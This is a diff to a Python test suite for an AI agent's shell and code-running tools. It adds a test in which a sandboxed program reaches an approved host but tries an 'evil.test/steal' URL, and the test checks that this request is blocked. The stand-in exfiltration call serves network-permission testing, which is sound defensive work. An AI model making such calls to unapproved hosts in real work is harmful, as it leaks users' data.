@@ -62,20 +62,28 @@ class Agent:
     registry: Registry
     evil: Registry
 
-    def run(self, command: str, network: list[str] | None = None, *, answer: str = "allow-once", sid: str = "") -> Run:
+    def run(
+        self,
+        command: str,
+        network: list[str] | None = None,
+        *,
+        answer: str = "allow-once",
+        sid: str = "",
+        tool: str = "run_shell",
+    ) -> Run:
         sid = sid or self.proc.new_session(self.root)
         self.editor.answer = answer
-        arguments: dict[str, Any] = {"command": command}
+        arguments: dict[str, Any] = {"code" if tool == "run_code" else "command": command}
         if network is not None:
             arguments["network"] = network
-        self.llm.push({"tool_calls": [{"name": "run_shell", "arguments": arguments}]})
+        self.llm.push({"tool_calls": [{"name": tool, "arguments": arguments}]})
         seen, asked = len(self.llm.requests), len(self.proc.permission_requests)
         _ack, messages = self.proc.prompt_v2(sid, "go", TURN_TIMEOUT)
         calls: dict[str, dict[str, Any]] = {}
         for update in updates(messages):
             if update["sessionUpdate"] in ("tool_call", "tool_call_update"):
                 calls.setdefault(update["toolCallId"], {}).update(update)
-        [call] = calls.values()
+        call = next(iter(calls.values()))  # the call itself; a program's nested calls come after it
         finals = [u for u in updates(messages, "terminal_update") if "exitStatus" in u and "output" in u]
         terminal = "".join(base64.b64decode(u["output"]["data"]).decode() for u in finals)
         follow_up = [r for r in self.llm.requests[seen:] if "tool" in str(r.body)]
@@ -259,3 +267,24 @@ def test_a_bad_network_argument_is_refused_before_asking(agent: Agent) -> None:
     run = agent.run("true", ["https://registry.test/simple"])
     assert run.asked == [] and run.call["status"] == "failed"
     assert "argument 'network'" in run.model_saw
+
+
+def test_a_run_code_program_reaches_an_approved_host_and_still_calls_tools(agent: Agent) -> None:
+    program = (
+        "import urllib.request\n"
+        "print(urllib.request.urlopen('http://registry.test/hello', timeout=10).read().decode().strip())\n"
+        "try:\n"
+        "    urllib.request.urlopen('http://evil.test/steal', timeout=10)\n"
+        "except Exception as exc:\n"
+        "    print('evil refused', exc)\n"
+        "print('listed', 'README' in tools.list_dir(path='.') or 'ok')\n"
+    )
+    before = len(agent.evil.requests)
+    run = agent.run(program, ["registry.test"], tool="run_code")
+    [request] = run.asked
+    assert "registry.test" in request["params"]["title"]
+    assert [o["kind"] for o in request["params"]["options"]] == ["allow_once", "reject_once"]
+    assert GREETING.decode().strip() in run.model_saw and "evil refused" in run.model_saw, run.model_saw
+    assert "listed" in run.model_saw  # the bridge to term2's tools works beside the network bridge
+    assert "blocked: evil.test was not approved" in run.model_saw
+    assert agent.evil.requests[before:] == []
